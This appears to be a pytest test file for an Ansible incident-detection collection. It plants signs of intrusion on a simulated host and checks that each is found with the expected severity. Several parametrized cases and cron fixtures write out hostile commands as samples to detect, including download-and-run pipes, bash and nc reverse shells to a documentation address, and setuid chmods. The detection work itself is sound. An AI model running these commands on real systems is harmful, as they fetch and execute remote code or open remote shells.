# Copyright (c) 2026 the toombos.incident authors
# GNU General Public License v3.0 or later (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Each sign is planted for real, and found with its severity; a clean host has none."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from planted_host import ALL, NOW, PlantedHost, fingerprint, key

from ansible_collections.toombos.incident.plugins.module_utils._command import CommandResult
from ansible_collections.toombos.incident.plugins.module_utils._indicators.checks import CHECKS
from ansible_collections.toombos.incident.plugins.module_utils._indicators.host import Host
from ansible_collections.toombos.incident.plugins.module_utils._indicators.readers import packages as reader
from ansible_collections.toombos.incident.plugins.module_utils._indicators.readers.packages import rpm_items
from ansible_collections.toombos.incident.plugins.module_utils._indicators.rules.commands import told
from ansible_collections.toombos.incident.plugins.module_utils._indicators.types import Mark

pytestmark = pytest.mark.usefixtures("within_this_process")


def test_a_clean_host_has_no_findings_and_says_what_it_cannot_say(host: PlantedHost) -> None:
    result = host.scan()
    assert result["findings"] == []
    assert {name: each["outcome"] for name, each in result["checks"].items()} == {
        "processes": "clean",
        "listeners": "no_baseline",
        "preload": "clean",
        "logins": "no_baseline",
        "accounts": "no_baseline",
        "authorized_keys": "no_baseline",
        "schedule": "no_baseline",
        "timers": "no_baseline",
        "logs": "clean",
        "privileges": "no_baseline",
        "packages": "clean",
    }
    assert result["complete"] is True
    assert result["changed"] is False
    assert result["msg"].startswith("nothing was found; without a baseline: listeners, logins, ")
    assert result["sessions"] == [
        {"user": "alice", "origin": "10.0.0.7", "now": False, "logins": 1, "last": "2026-09-21T14:12:20Z"}
    ]


def test_with_a_baseline_a_clean_host_is_clean(host: PlantedHost) -> None:
    assert host.scan(state="baseline")["changed"] is True
    result = host.scan()
    assert {each["outcome"] for each in result["checks"].values()} == {"clean"}
    assert result["msg"].startswith("nothing was found; 11 checks in ")


def test_a_host_without_anything_says_that_it_is_absent(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    empty = PlantedHost(tmp_path / "empty", tmp_path / "store")
    outcomes = {name: each["outcome"] for name, each in empty.scan()["checks"].items()}
    assert outcomes.pop("privileges") == "no_baseline"
    assert outcomes.pop("preload") == "clean"
    assert set(outcomes.values()) == {"absent"}


@pytest.mark.parametrize(
    ("exe", "argv", "severity", "title"),
    [
        ("/tmp/miner", (), "high", "runs a program from where everybody may write"),
        ("/dev/shm/x (deleted)", (), "critical", "runs a program from where everybody may write"),
        ("/opt/app (deleted)", (), "high", "runs a program that was deleted"),
        ("/usr/bin/ls (deleted)", (), "info", "runs a program that was replaced since, as by an update"),
        ("/memfd:a (deleted)", (), "high", "runs a program that is in no file"),
        ("/usr/bin/perl", ("[kworker/0:1]",), "critical", "pretends to be of the kernel"),
    ],
)
def test_processes(host: PlantedHost, exe: str, argv: tuple[str, ...], severity: str, title: str) -> None:
    host.process(20, exe, *argv)
    assert host.found("processes") == [(severity, f"Process 20 {title}")]
    assert host.outcome("processes") == "found"


def test_arguments_of_processes_show_no_secret(host: PlantedHost) -> None:
    host.process(20, "/tmp/miner", "/tmp/miner", "--password", "geheim-geheim", "-x")
    result = host.scan("processes")
    assert result["findings"][0]["command"] == "/tmp/miner --password *** -x"
    assert "geheim" not in str(result)
    assert result["findings"][0]["seen"] == ["2026-09-10T00:26:41Z"]


def test_listeners_without_a_baseline_are_odd_only_in_the_wrong_hands(host: PlantedHost) -> None:
    host.process(20, "/usr/bin/nc", "nc", "-l", "4444")
    host.listen("0.0.0.0", 4444, 2000, 20)
    host.process(21, "/tmp/.x/d")
    host.listen("127.0.0.1", 5555, 2001, 21)
    assert host.found("listeners") == [
        ("critical", "/tmp/.x/d listens on tcp 127.0.0.1:5555"),
        ("high", "/usr/bin/nc listens on tcp 0.0.0.0:4444"),
    ]


def test_listeners_that_the_baseline_does_not_have_or_has_in_other_hands(host: PlantedHost) -> None:
    host.scan("listeners", state="baseline")
    host.process(20, "/opt/app/server")
    host.listen("0.0.0.0", 8080, 2000, 20)
    host.listen("127.0.0.1", 8081, 2001, 20)
    host.listen("0.0.0.0", 5353, 2002, 20, "udp", "07")
    host.listen("0.0.0.0", 40000, 2003, 20, "udp", "07")  # lent to a client
    os.unlink(host.root / "proc/10/exe")
    os.symlink("/opt/app/sshd2", host.root / "proc/10/exe")
    assert host.found("listeners") == [
        ("high", "tcp 0.0.0.0:22 is held by another program"),
        ("high", "tcp 0.0.0.0:8080 is new"),
        ("high", "udp 0.0.0.0:5353 is new"),
        ("low", "tcp 127.0.0.1:8081 is new"),
    ]


def test_declared_listeners_are_no_findings_and_others_are(host: PlantedHost) -> None:
    host.process(20, "/opt/app/server")
    host.listen("0.0.0.0", 8080, 2000, 20)
    assert host.found("listeners", expected={"listeners": [22]}) == [("high", "tcp 0.0.0.0:8080 is new")]
    result = host.scan("listeners", expected={"listeners": ["22/tcp", "tcp/8080"]})
    assert result["checks"]["listeners"]["outcome"] == "clean"
    assert result["checks"]["listeners"]["compared"] == "declared"
    assert host.outcome("listeners", expected={"listeners": ["22/udp", 8080]}) == "found"


def test_preloads(host: PlantedHost) -> None:
    host.process(20, "/usr/bin/ls", environ="SECRET=geheim\0LD_PRELOAD=/dev/shm/h.so\0")
    host.write("/etc/ld.so.preload", "/lib/libhide.so\n")
    result = host.scan("preload")
    assert [(each["severity"], each["title"]) for each in result["findings"]] == [
        ("critical", "/lib/libhide.so is loaded into every program"),
        ("high", "/dev/shm/h.so is loaded before the libraries of programs"),
    ]
    assert "geheim" not in str(result)


def test_logins_where_many_have_failed(host: PlantedHost) -> None:
    for number in range(30):
        host.login("root", "203.0.113.9", path="/var/log/btmp", when=NOW - number)
    assert host.found("logins") == [("low", "Many logins from 203.0.113.9 have failed")]
    host.login("alice", "203.0.113.9")
    assert host.found("logins")[0] == ("critical", "alice from 203.0.113.9 has logged in where many have failed")


def test_logins_that_are_new_unknown_or_were_hidden(host: PlantedHost) -> None:
    host.scan("logins", state="baseline")
    host.login("root", "198.51.100.2")
    host.login("alice", "198.51.100.3", path="/run/utmp")
    host.login("ghost", "10.0.0.7")
    with (host.root / "var/log/wtmp").open("ab") as file:
        file.write(bytes(384) + b"abc")
    assert host.found("logins") == [
        ("high", "/var/log/wtmp has entries that were made empty"),
        ("high", "/var/log/wtmp ends within an entry"),
        ("high", "ghost from 10.0.0.7 has logged in and is no account of this host"),
        ("high", "root from 198.51.100.2 is new"),
        ("medium", "alice from 198.51.100.3 is new"),
    ]
    sessions = host.scan("logins")["sessions"]
    assert (sessions[0]["user"], sessions[0]["origin"], sessions[0]["now"]) == ("alice", "198.51.100.3", True)


def test_logins_from_before_do_not_count(host: PlantedHost) -> None:
    host.login("ghost", "10.0.0.9", when=NOW - 7200)
    assert host.found("logins", since="1h") == []
    assert len(host.found("logins", since="3h")) == 1


def test_accounts(host: PlantedHost) -> None:
    host.scan("accounts", state="baseline")
    host.add(
        "/etc/passwd",
        "toor:x:0:0::/root:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/sh\nweb:x:33:33::/:/usr/sbin/nologin\n",
    )
    host.add("/etc/passwd", "open::1002:1002::/:/bin/sh\nnonsense\n")
    host.add("/etc/group", "docker:x:99:bob\n")
    text = (
        (host.root / "etc/passwd")
        .read_text()
        .replace("daemon:x:1:1::/usr/sbin:/usr/sbin/nologin", "daemon:x:1:1::/:/bin/sh")
    )
    host.write("/etc/passwd", text)
    assert host.found("accounts") == [
        ("critical", "toor is root under another name"),
        ("high", "bob is new in the group docker"),
        ("high", "The account bob is new"),
        ("high", "The account daemon was changed"),
        ("high", "open needs no password"),
        ("medium", "A line of /etc/passwd that is no account"),
        ("medium", "The account web is new"),
    ]


def test_an_account_that_is_declared_but_root_is_a_finding_all_the_same(host: PlantedHost) -> None:
    host.add("/etc/passwd", "bob:x:0:0::/home/bob:/bin/sh\n")
    found = host.found("accounts", expected={"users": ["root", "daemon", "alice", "bob"]})
    assert ("critical", "bob is root under another name") in found


def test_keys_are_shown_by_fingerprint_and_comment(host: PlantedHost) -> None:
    host.scan("authorized_keys", state="baseline")
    theirs = key("eve password=geheim", options='from="10.0.0.0/8",command="/bin/sh"')
    host.add("/home/alice/.ssh/authorized_keys", theirs)
    host.write("/root/.ssh/authorized_keys2", key("root-eve"), 0o600)
    result = host.scan("authorized_keys")
    assert [(each["severity"], each["title"]) for each in result["findings"]] == [
        ("critical", "A key of root is new"),
        ("high", "A key of alice is new"),
    ]
    found = result["findings"][1]
    assert found["fingerprint"] == fingerprint(theirs)
    assert found["comment"] == "eve password=***"
    assert found["options"] == 'from="10.0.0.0/8",command="/bin/sh"'
    assert "AAAA" not in str(result)
    assert host.found("authorized_keys", expected={"fingerprints": [fingerprint(theirs)]}) == [
        ("critical", "A key of root is new")
    ]


def test_keys_that_are_odd_in_themselves_or_changed(host: PlantedHost) -> None:
    host.scan("authorized_keys", state="baseline")
    host.write("/home/alice/.ssh/authorized_keys", key("alice@laptop").replace("ssh-", "no-pty ssh-", 1), 0o600)
    host.write("/usr/sbin/.ssh/authorized_keys", key("d"), 0o600)
    assert host.found("authorized_keys") == [
        ("high", "daemon, which may not log in, has a key"),
        ("medium", "Options or comment of a key of alice were changed"),
    ]
    (host.root / "home/alice/.ssh/authorized_keys").chmod(0o666)
    assert ("medium", "Others may write the keys of alice") in host.found("authorized_keys")


def test_keys_are_where_the_server_looks_for_them(host: PlantedHost) -> None:
    host.write("/etc/ssh/sshd_config", "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/mine\n")
    host.write("/etc/ssh/keys/daemon", key("d"))
    assert host.found("authorized_keys") == [("medium", "daemon, which may not log in, has a key")]


@pytest.mark.parametrize(
    ("line", "sign"),
    [
        ("curl -s http://203.0.113.9/x | bash", "downloads and runs"),
        ("wget -qO- http://203.0.113.9/x |sudo /bin/sh", "downloads and runs"),
        ("bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "opens a shell to the network"),
        ("nc -e /bin/sh 203.0.113.9 1", "opens a shell to the network"),
        ("echo aGk= | base64 -d | sh", "unpacks and runs"),
        ("/dev/shm/.x", "runs from where everybody may write"),
        ("chmod u+s /usr/bin/vim", "makes a program setuid"),
        ("chmod 4755 /usr/bin/vim", "makes a program setuid"),
    ],
)
def test_command_lines_of_intruders(line: str, sign: str) -> None:
    assert sign in told(f"root {line}")


@pytest.mark.parametrize(
    "line",
    [
        "cd / && run-parts --report /etc/cron.hourly",
        "test -x /usr/sbin/anacron || run-parts /etc/cron.daily",
        "curl -fsS https://hc.example.com/ping/1 > /dev/null",
        "find /var/tmp -mtime +7 -delete",
        "chmod 0755 /srv/x",
        "/usr/bin/python3 /opt/app/sync.py | logger",
    ],
)
def test_command_lines_of_administrators(line: str) -> None:
    assert told(line) == ()


def test_cron(host: PlantedHost) -> None:
    host.write("/etc/cron.d/.hidden", "* * * * * root curl http://203.0.113.9/a | sh\n")
    assert host.found("schedule") == [("critical", "/etc/cron.d/.hidden downloads and runs")]
    os.unlink(host.root / "etc/cron.d/.hidden")
    host.scan("schedule", state="baseline")
    host.write("/var/spool/cron/crontabs/alice", "@reboot /home/alice/.config/a --token geheim-geheim\n", 0o600)
    host.write("/etc/cron.daily/dpkg", "#!/bin/sh\nexec /usr/bin/other\n", 0o755)
    result = host.scan("schedule")
    assert [(each["severity"], each["title"]) for each in result["findings"]] == [
        ("high", "/etc/cron.daily/dpkg was changed"),
        ("high", "/var/spool/cron/crontabs/alice runs something new on time"),
    ]
    assert result["findings"][1]["line"] == "@reboot /home/alice/.config/a --token ***"


def test_timers(host: PlantedHost) -> None:
    host.write("/etc/systemd/system/a.timer", "[Timer]\nOnBootSec=1\nUnit=b.service\n")
    host.write("/etc/systemd/system/b.service", "[Service]\nExecStart=/bin/sh -c '/tmp/.x'\n")
    assert host.found("timers") == [("critical", "/etc/systemd/system/a.timer runs from where everybody may write")]
    host.write("/etc/systemd/system/b.service", "[Service]\nExecStart=/usr/bin/true\n")
    host.scan("timers", state="baseline")
    host.write("/etc/systemd/system/b.service", "[Service]\nExecStart=/usr/bin/false\n")
    host.write("/home/alice/.config/systemd/user/u.timer", "[Timer]\n")
    host.write("/usr/lib/systemd/system/fstrim.service", "[Service]\nExecStart=/sbin/fstrim\n")
    assert host.found("timers") == [
        ("high", "/etc/systemd/system/a.timer was changed"),
        ("high", "/home/alice/.config/systemd/user/u.timer runs something new on time"),
        ("low", "/usr/lib/systemd/system/fstrim.timer was changed"),
    ]
    assert len(host.found("timers", expected={"timers": ["a.*", "/home/*"]})) == 1


def test_logs_of_services_and_of_logins(host: PlantedHost) -> None:
    log = host.write("/srv/shop.log", "2026-09-21T10:00:00Z shop - ERROR - SQL injection, password=geheim\n")
    host.add("/var/log/auth.log", "2026-09-21T11:00:00Z host useradd[1]: new user: name=bob, UID=1001\n")
    services = {
        "shop": {
            "manager": {"kind": "systemd", "unit": "x.service"},
            "logs": [str(log)],
            "probes": {"port": {"kind": "tcp", "port": 1}},
        }
    }
    result = host.scan("logs", services=services)
    assert [(each["severity"], each["title"]) for each in result["findings"]] == [
        ("medium", "1 lines of logs match account_made"),
        ("medium", "1 lines of logs match security"),
    ]
    assert result["findings"][1]["supports"] == ["service_logs/shop"]
    assert result["findings"][1]["seen"] == ["2026-09-21T10:00:00Z", "2026-09-21T10:00:00Z"]
    assert "geheim" not in str(result)
    assert [
        each["title"] for each in host.scan("logs", services=services, since="2026-09-21T10:30:00Z")["findings"]
    ] == ["1 lines of logs match account_made"]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make files that give root's rights")
def test_files_that_give_rights(host: PlantedHost) -> None:
    host.write("/usr/local/bin/bash", "", 0o4755)
    host.write("/usr/bin/own", "", 0o2755)
    host.write("/usr/bin/strong", "", 0o4755)
    host.write("/tmp/x", "", 0o4755)
    host.write("/usr/local/lib/.b", "", 0o4755)
    host.write("/usr/bin/locks", "", 0o2644)  # asks for mandatory locks
    assert host.found("privileges") == [
        ("critical", "/tmp/x gives rights from a place where programs are not"),
        ("critical", "/usr/local/bin/bash gives root's rights to whoever calls it"),
        ("critical", "/usr/local/lib/.b gives root's rights and hides"),
        ("high", "/usr/bin/strong gives rights and is of no package"),
        ("medium", "/usr/bin/own gives rights and is of no package"),
    ]


def test_files_that_give_rights_and_did_not_before(host: PlantedHost) -> None:
    host.write("/usr/bin/own", "", 0o2755)
    host.scan("privileges", state="baseline", reason="a test")
    assert host.outcome("privileges") == "clean"
    host.write("/usr/bin/ls", "", 0o4755)
    host.write("/usr/bin/own", "", 0o2711)
    assert host.found("privileges") == [
        ("high", "/usr/bin/own gives rights and is of no package"),
        ("medium", "/usr/bin/ls is new and gives rights"),
    ]


def test_capabilities(host: PlantedHost) -> None:
    path = host.write("/opt/python3", "", 0o755)
    try:
        os.setxattr(path, "security.capability", bytes.fromhex("0100000280000000000000000000000000000000"))
    except OSError:
        pytest.skip("capabilities cannot be given here")
    result = host.scan("privileges")
    assert [(each["severity"], each["title"]) for each in result["findings"]] == [
        ("critical", "/opt/python3 gives root's rights to whoever calls it")
    ]
    assert result["findings"][0]["capabilities"] == ["setuid"]


def test_programs_that_differ_from_their_package(host: PlantedHost) -> None:
    host.write("/usr/bin/tool", "x", 0o755)
    host.write("/usr/lib/x/libx.so.1", "x")
    host.write("/usr/bin/conf", "x")
    host.write("/usr/bin/sh.distrib", "dash's own")
    host.write("/usr/bin/sh", "dash's own")
    host.package("tools", "/usr/bin/tool", "/usr/lib/x/libx.so.1", "/usr/bin/conf", "/usr/bin/sh")
    host.write("/var/lib/dpkg/info/tools.conffiles", "/usr/bin/conf\n")
    host.write("/var/lib/dpkg/diversions", "/usr/bin/sh\n/usr/bin/sh.distrib\ndash\n")
    host.write("/usr/bin/conf", "changed by its administrator")
    host.write("/usr/bin/sh", "another package's")
    assert host.outcome("packages") == "clean"
    host.write("/usr/bin/su", "a fake", 0o4755)
    host.write("/usr/sbin/sshd", "a fake")
    host.write("/usr/bin/tool", "a fake")
    host.write("/usr/lib/x/libx.so.1", "a fake")
    os.unlink(host.root / "usr/bin/ls")
    os.mkfifo(host.root / "usr/bin/ls")
    os.unlink(host.root / "usr/bin/sh.distrib")
    assert host.found("packages") == [
        ("critical", "/usr/bin/su is not the one of coreutils"),
        ("critical", "/usr/sbin/sshd is not the one of coreutils"),
        ("high", "/usr/bin/ls of coreutils is no file"),
        ("high", "/usr/bin/tool is not the one of tools"),
        ("high", "/usr/lib/x/libx.so.1 is not the one of tools"),
        ("medium", "/usr/bin/sh.distrib of tools is missing"),
    ]
    result = host.scan("packages", expected={"files": ["/usr/*"]})
    assert result["checks"]["packages"]["outcome"] == "clean"
    assert result["checks"]["packages"]["known"] == 6


def test_what_rpm_says() -> None:
    text = "S.5....T.  c /etc/ssh/sshd_config\nS.5....T.    /usr/sbin/sshd\nmissing     /usr/bin/ls\n"
    text += ".M.......    /usr/bin/su\nmissing   d /usr/share/doc/x\n.......T.    /usr/bin/date\n"
    text += "Unsatisfied dependencies\n..5......    /usr/lib64/libc.so.6 (replaced)\n"
    check = CHECKS["packages"]
    found = [(odd.severity, odd.title) for odd in map(check.odd, rpm_items(text)) if odd]
    assert found == [
        ("critical", "/usr/sbin/sshd is not the one of its package"),
        ("medium", "/usr/bin/ls of its package is missing"),
        ("medium", "Owner, mode or capabilities of /usr/bin/su are not those of its package"),
        ("high", "/usr/lib64/libc.so.6 is not the one of its package"),
    ]


@pytest.mark.parametrize(
    ("seconds", "ran", "kinds"),
    [
        (9.0, CommandResult(1, "..5......    /usr/bin/ls\n", "", False, 1.0), ["item"]),
        (9.0, CommandResult(None, "..5......    /usr/bin/ls\n", "", True, 1.0), ["item", "late"]),
        (9.0, CommandResult(None, "", "", False, 0.0, "rpm: Permission denied"), ["error"]),
        (9.0, CommandResult(1, "[... 9 bytes left out ...]", "", False, 1.0), ["error"]),
        (2.0, None, ["late"]),
    ],
)
def test_rpm_that_is_late_or_cannot_be_asked(
    monkeypatch: pytest.MonkeyPatch, seconds: float, ran: CommandResult, kinds: list[str]
) -> None:
    asked: list[float] = []

    def run(argv: list[str], timeout: float, max_output: int) -> CommandResult:
        asked.append(timeout)
        return ran

    monkeypatch.setattr(reader, "run_command", run)
    seen = list(reader._rpm(Host(seconds=seconds)))
    assert [each.kind if isinstance(each, Mark) else "item" for each in seen] == kinds
    assert asked == ([6.5] if ran else [])


def test_ids_stay_the_same_and_differ(host: PlantedHost) -> None:
    host.process(20, "/tmp/a")
    host.process(21, "/tmp/b")
    ids = [each["id"] for each in host.scan("processes")["findings"]]
    assert len(set(ids)) == 2
    assert [each["id"] for each in host.scan("processes")["findings"]] == ids


def test_every_check_says_which_artifacts_hold_the_same() -> None:
    assert set(ALL) == set(CHECKS)
    assert all(check.supports for check in CHECKS.values())
